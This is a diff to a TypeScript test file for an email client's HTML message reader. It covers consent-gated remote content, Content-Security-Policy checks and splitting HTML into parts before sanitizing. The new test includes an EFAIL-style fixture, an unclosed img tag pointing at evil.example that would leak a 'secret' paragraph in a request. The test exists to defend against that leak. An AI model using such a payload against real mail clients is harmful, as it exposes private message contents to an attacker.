@@ -257,12 +257,14 @@ test('the reader: HTML only on request, remote content only with consent and nev
   const settle = () => new Promise((resolve) => setImmediate(resolve));
   const lastFrame = () => fake.callsOf('mail.frame').at(-1) as { document: string; allowRemote: boolean };
   const seen: boolean[] = [];
-  const sanitize = (html: string, allowRemote: boolean) => {
+  const sanitize = (parts: readonly string[], allowRemote: boolean) => {
     seen.push(allowRemote);
+    const html = parts.join('');
     return {
       html: allowRemote ? html : html.replace(/ src="[^"]*"/, ''),
       blockedRemote: allowRemote ? 0 : 1,
       allowedRemote: allowRemote ? 1 : 0,
+      remoteUrls: allowRemote ? ['https://tracker.example/p.png'] : [],
     };
   };
   const reader = new lib.ReaderState(
@@ -289,12 +291,12 @@ test('the reader: HTML only on request, remote content only with consent and nev
   assert.equal(reader.frame!.blockedRemote, 1);
   assert.equal(reader.frame!.url, 'app://sealpost/message/frame1', 'the frame is loaded from the URL main serves it at');
   assert.equal(lastFrame().allowRemote, false);
-  assert.match(lastFrame().document, /img-src data:"/);
+  assert.match(lastFrame().document, /img-src data:;/);
   assert.doesNotMatch(lastFrame().document, /tracker/);
   assert.equal(reader.allowRemote(), true);
   await settle();
   assert.equal(lastFrame().allowRemote, true);
-  assert.match(lastFrame().document, /img-src data: https:"/);
+  assert.match(lastFrame().document, /img-src data: https:;/);
   assert.match(lastFrame().document, /tracker/);
   assert.equal(reader.frame!.url, 'app://sealpost/message/frame2');
   assert.deepEqual(seen, [false, true]);
@@ -341,4 +343,36 @@ test('the reader: HTML only on request, remote content only with consent and nev
   await settle();
   assert.equal(lastFrame().allowRemote, false);
   assert.doesNotMatch(lastFrame().document, /tracker/);
+});
+
+test('the reader hands the sanitizer the message\u2019s HTML parts apart, cut where main says each starts', async () => {
+  const efail = ['<img src="http://evil.example/?', '<p>secret</p>', '">'];
+  const html = efail.join('\n');
+  assert.deepEqual(lib.htmlParts(html, [0, efail[0]!.length + 1, efail[0]!.length + efail[1]!.length + 2]), efail);
+  assert.deepEqual(lib.htmlParts(html), [html], 'no offsets: one part');
+  assert.deepEqual(lib.htmlParts(html, [0, 999, -1, 1.5]), [html], 'offsets out of range are ignored');
+  const given: (readonly string[])[] = [];
+  const fake = fakeBridge({
+    'mail.read': () => ({ report: sampleReport(), html, htmlStarts: [0, 32, 46] }),
+    'mail.frame': () => ({ url: 'app://sealpost/message/frame1' }),
+  });
+  const reader = new lib.ReaderState(fake.bridge, { keys: () => [], settings: () => lib.DEFAULT_SETTINGS }, (parts: readonly string[]) => {
+    given.push(parts);
+    return { html: '', blockedRemote: 0, allowedRemote: 0, remoteUrls: [] };
+  });
+  await reader.open({
+    folderId: 1,
+    uid: '1',
+    messageId: null,
+    from: null,
+    to: [],
+    cc: [],
+    subject: '',
+    date: null,
+    flags: [],
+    security: 'none',
+    size: null,
+  });
+  await reader.setShowHtml(true);
+  assert.deepEqual(given, [efail]);
 });
